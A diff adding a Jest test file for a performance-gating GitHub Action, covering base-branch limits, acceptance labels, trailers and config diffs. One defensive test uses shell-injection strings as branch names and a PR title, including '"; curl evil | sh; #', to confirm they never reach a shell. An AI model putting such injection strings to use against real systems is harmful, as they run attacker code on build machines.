@@ -1,0 +1,271 @@
+import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
+import { mkdir, readFile, writeFile } from 'node:fs/promises'
+import path from 'node:path'
+import { existsSync } from 'node:fs'
+import * as core from '../../__fixtures__/core.js'
+import { freePort, REPO } from '../../__fixtures__/config.js'
+import { GitSandbox, git } from '../../__fixtures__/git.js'
+import { FakeGitHub } from '../../__fixtures__/github/fake-api.js'
+
+jest.unstable_mockModule('@actions/core', () => core)
+const { run } = await import('../../src/main.js')
+const { stopAllServices } = await import('../../src/service/spawn.js')
+
+const savedEnv = { ...process.env }
+let sandbox: GitSandbox
+let work: string
+let api: FakeGitHub
+
+beforeEach(async () => {
+  core.reset()
+  core.setFailed.mockClear()
+  sandbox = await new GitSandbox().start(1)
+  work = sandbox.clone('work')
+  api = await new FakeGitHub().start()
+})
+afterEach(async () => {
+  process.env = { ...savedEnv }
+  await stopAllServices()
+  await api.stop()
+  await sandbox.stop()
+})
+
+const config = (port: number, limits: string, extra = '') => `version: 1
+service:
+  command: node ${path.join(REPO, 'examples/service/server.mjs')}
+  env: { PORT: "${port}", CPU_US: "50" }
+  ready: { url: http://127.0.0.1:${port}/health, timeout: 15s }
+defaults: { warmup: 200ms, duration: 600ms, connections: 4, min-requests: 20 }
+scenarios:
+  - name: get
+    request: { url: http://127.0.0.1:${port}/reservations/1 }
+    thresholds:
+${limits}${extra}`
+
+/** main holds `base`; the PR branch changes perfgate.yml to `head` in a commit that also carries a trailer. */
+async function pullRequest(
+  base: string,
+  head: string,
+  labels: string[] = [],
+  names: { base?: string; head?: string; title?: string } = {}
+): Promise<void> {
+  const baseBranch = names.base ?? 'main'
+  await writeFile(path.join(work, 'perfgate.yml'), base)
+  git(work, 'add', 'perfgate.yml')
+  git(work, 'commit', '-q', '-m', 'perfgate limits')
+  git(work, 'push', '-q', 'origin', `HEAD:refs/heads/${baseBranch}`)
+  git(work, 'fetch', '-q', 'origin')
+  const mainSha = git(work, 'rev-parse', 'HEAD')
+  git(work, 'checkout', '-q', '-b', 'feature')
+  await writeFile(path.join(work, 'perfgate.yml'), head)
+  git(work, 'commit', '-q', '--allow-empty', '-am', 'Loosen the gate\n\nPerf-Accepted: * *')
+  const event = {
+    pull_request: {
+      number: 7,
+      title: names.title ?? 'Loosen the gate',
+      head: {
+        sha: git(work, 'rev-parse', 'HEAD'),
+        ref: names.head ?? 'feature',
+        repo: { full_name: 'o/r', fork: false }
+      },
+      base: { sha: mainSha, ref: baseBranch, repo: { full_name: 'o/r' } },
+      labels: labels.map(name => ({ name }))
+    },
+    repository: { default_branch: 'main', full_name: 'o/r' }
+  }
+  await writeFile(path.join(sandbox.root, 'event.json'), JSON.stringify(event))
+  Object.assign(process.env, {
+    GITHUB_WORKSPACE: work,
+    GITHUB_REPOSITORY: 'o/r',
+    GITHUB_EVENT_NAME: 'pull_request',
+    GITHUB_EVENT_PATH: path.join(sandbox.root, 'event.json'),
+    GITHUB_BASE_REF: baseBranch,
+    GITHUB_HEAD_REF: names.head ?? 'feature',
+    GITHUB_API_URL: api.url,
+    GITHUB_RUN_ID: '42',
+    GITHUB_STEP_SUMMARY: path.join(sandbox.root, 'summary.md')
+  })
+  Object.assign(core.inputs, {
+    config: 'perfgate.yml',
+    mode: 'run',
+    comment: 'always',
+    'github-token': 'ghs_x'
+  })
+}
+
+const report = async () => JSON.parse(await readFile(core.outputs.report!, 'utf8'))
+
+describe('the gate of a pull request comes from its base', () => {
+  it('a PR that loosens its own limit is gated by the base’s, and the comment shows the change side by side', async () => {
+    const port = await freePort()
+    const added = `  - name: added\n    request: { url: http://127.0.0.1:${port}/reservations/2 }\n    thresholds:\n      latency.p99: "< 1us"\n`
+    await pullRequest(
+      config(port, '      latency.p99: "< 1us"\n'),
+      config(port, '      latency.p99: "< 5s"\n', added)
+    )
+    await run()
+    const result = await report()
+    expect(result.verdict).toBe('fail')
+    expect(result.gate).toMatchObject({
+      source: 'base',
+      changes: [{ scenario: 'get', limit: 'latency.p99', base: '< 1us', head: '< 5s' }]
+    })
+    const get = result.scenarios.find((s: { name: string }) => s.name === 'get')
+    expect(get.checks[0]).toMatchObject({ expression: '< 1us', verdict: 'fail' })
+    // a scenario the PR adds is measured and gated by its own limits
+    const own = result.scenarios.find((s: { name: string }) => s.name === 'added')
+    expect(own.checks[0]).toMatchObject({ expression: '< 1us', verdict: 'fail' })
+    expect(api.comments).toHaveLength(1)
+    const body = api.comments[0]!.body
+    expect(body).toMatch(/get {2}latency\.p99 {2}< 1us {2}-> {2}< 5s/)
+    expect(body).toContain('The changes take effect after merge, or now with the perf-accepted label')
+    expect(core.setFailed).toHaveBeenCalled()
+  })
+
+  it('the PR’s limits apply with the perf-accepted label, and the comment names who applied it', async () => {
+    const port = await freePort()
+    api.issueEvents.set(7, [
+      { event: 'labeled', label: { name: 'bug' }, actor: { login: 'someone' } },
+      { event: 'labeled', label: { name: 'perf-accepted' }, actor: { login: 'maintainer' } }
+    ])
+    await pullRequest(
+      config(port, '      latency.p99: "< 1us"\n'),
+      config(port, '      latency.p99: "< 5s"\n'),
+      ['perf-accepted']
+    )
+    await run()
+    const result = await report()
+    expect(result.verdict).toBe('pass')
+    expect(result.gate.source).toBe('pr')
+    expect(result.gate.message).toContain('the perf-accepted label, applied by @maintainer')
+    expect(api.comments[0]!.body).toMatch(/get {2}latency\.p99 {2}< 1us {2}-> {2}< 5s/)
+    expect(core.setFailed).not.toHaveBeenCalled()
+  })
+
+  it('a PR that adds perfgate is gated by its own limits', async () => {
+    const port = await freePort()
+    await pullRequest('', config(port, '      latency.p99: "< 5s"\n'))
+    git(work, 'checkout', '-q', 'main')
+    git(work, 'rm', '-q', 'perfgate.yml')
+    git(work, 'commit', '-q', '-m', 'no perfgate yet')
+    git(work, 'push', '-q', 'origin', 'HEAD:main')
+    git(work, 'checkout', '-q', 'feature')
+    await run()
+    const result = await report()
+    expect(result.verdict).toBe('pass')
+    expect(result.gate).toMatchObject({ source: 'pr', changes: [] })
+    expect(result.gate.message).toMatch(/has no perfgate\.yml: this pull request adds perfgate/)
+  })
+})
+
+describe('shell-looking branch names and titles', () => {
+  it('are never evaluated by a shell: they reach git as arguments and the comment as escaped text', async () => {
+    const port = await freePort()
+    const marker = path.join(sandbox.root, 'pwned')
+    const baseBranch = `base$(touch\${IFS}${marker});echo"x"|sh`
+    const evil = '"; curl evil | sh; #'
+    const base = config(port, '      latency.p99: "< 4s"\n').replace(
+      'service:\n',
+      'service:\n  build: echo built\n'
+    )
+    await pullRequest(base, base.replace('< 4s', '< 5s'), [], {
+      base: baseBranch,
+      head: evil,
+      title: '$(id) `id`'
+    })
+    Object.assign(core.inputs, { mode: 'compare' })
+    await run()
+    expect(existsSync(marker)).toBe(false)
+    const result = await report()
+    expect(result.mode).toBe('compare')
+    expect(result.scenarios[0].verdict).not.toBe('errored')
+    expect(result.gate.message).toContain(baseBranch)
+    const body = api.comments[0]!.body
+    // the branch name appears only as escaped text: no raw `|`, and the $(...) is inert text
+    expect(body).toContain('base$(touch${IFS}')
+    expect(body).not.toContain('"x"|sh')
+    expect(body).toContain('&#124;sh')
+  }, 120_000)
+})
+
+describe('accepting a regression in a pull request', () => {
+  it('a Perf-Accepted trailer in the PR’s own commits accepts nothing', async () => {
+    const port = await freePort()
+    const compareConfig = `version: 1
+service:
+  command: node server.mjs
+  env: { PORT: "${port}", CPU_US: "50" }
+  ready: { url: http://127.0.0.1:${port}/health, timeout: 15s }
+defaults: { warmup: 200ms, duration: 600ms, connections: 4, min-requests: 20 }
+compare: { rounds: { min: 3, max: 4 }, confirm: false }
+scenarios:
+  - name: get
+    request: { url: http://127.0.0.1:${port}/reservations/1 }
+    regression:
+      server.rss.peak: "+20%"
+`
+    await pullRequest(compareConfig, compareConfig)
+    const server = path.join(REPO, 'examples/service/server.mjs')
+    // the head holds 150 MB more memory: a regression of server.rss.peak whatever the machine's load
+    await writeFile(
+      path.join(work, 'server.mjs'),
+      `globalThis.ballast = Buffer.alloc(150 * 1024 * 1024, 1)\nawait import(${JSON.stringify(server)})\n`
+    )
+    const baseDir = path.join(sandbox.root, 'base-build')
+    await mkdir(baseDir)
+    await writeFile(path.join(baseDir, 'server.mjs'), `await import(${JSON.stringify(server)})\n`)
+    Object.assign(core.inputs, { mode: 'compare', 'base-dir': baseDir, comment: 'off' })
+    await run()
+    const result = await report()
+    const check = result.scenarios[0].checks.find((c: { metric: string }) => c.metric === 'server.rss.peak')
+    expect(check.verdict).toBe('fail')
+    expect(check.acceptedBy).toBeUndefined()
+    expect(result.verdict).toBe('fail')
+  }, 120_000)
+})
+
+describe('gateConfig and limitChanges', () => {
+  const text = (regression: string, extra = '') => `version: 1
+service: { command: node s.js, ready: { url: http://127.0.0.1:1/ } }
+compare: { rounds: { min: 3, max: 15 } }
+scenarios:
+  - name: list
+    request: { url: http://127.0.0.1:1/list }
+    regression:
+      throughput.rps: "${regression}"
+${extra}`
+  it('keeps the base’s tolerances, the base’s scenarios and its compare settings; lists every change', async () => {
+    const { parseConfig } = await import('../../src/config/load.js')
+    const { gateConfig, limitChanges } = await import('../../src/action/gate.js')
+    const base = parseConfig(
+      text('-5%', '  - name: search\n    request: { url: http://127.0.0.1:1/search }\n'),
+      'base.yml',
+      '/repo'
+    )
+    const head = parseConfig(
+      text('-50%').replace('max: 15', 'max: 4') +
+        '  - name: fresh\n    request: { url: http://127.0.0.1:1/fresh }\n    thresholds: { latency.p99: "< 9s" }\n',
+      'perfgate.yml',
+      '/repo'
+    )
+    expect(limitChanges(base, head)).toEqual([
+      { scenario: 'list', limit: 'throughput.rps (regression)', base: '-5%', head: '-50%' },
+      { scenario: 'search', limit: 'scenario', base: 'measured', head: '(removed)' },
+      { limit: 'compare.rounds', base: '3 to 15', head: '3 to 4' }
+    ])
+    const gated = gateConfig(head, base)
+    expect(gated.scenarios.map(s => s.name)).toEqual(['list', 'fresh', 'search'])
+    expect(gated.scenarios[0]!.regression[0]).toMatchObject({ expression: '-5%', tolerance: 0.05 })
+    expect(gated.scenarios[0]!.source).toBeUndefined()
+    expect(gated.scenarios[1]!.thresholds[0]!.expression).toBe('< 9s')
+    expect(gated.compare.rounds.max).toBe(15)
+    expect(gated.service).toBe(head.service)
+    expect(gated.baseline).toBe(base.baseline)
+    const noStore = parseConfig(text('-5%') + 'baseline: { store: none }\n', 'perfgate.yml', '/repo')
+    expect(limitChanges(base, noStore)).toContainEqual({
+      limit: 'baseline.store',
+      base: 'branch perfgate-baselines of origin',
+      head: 'none'
+    })
+  })
+})
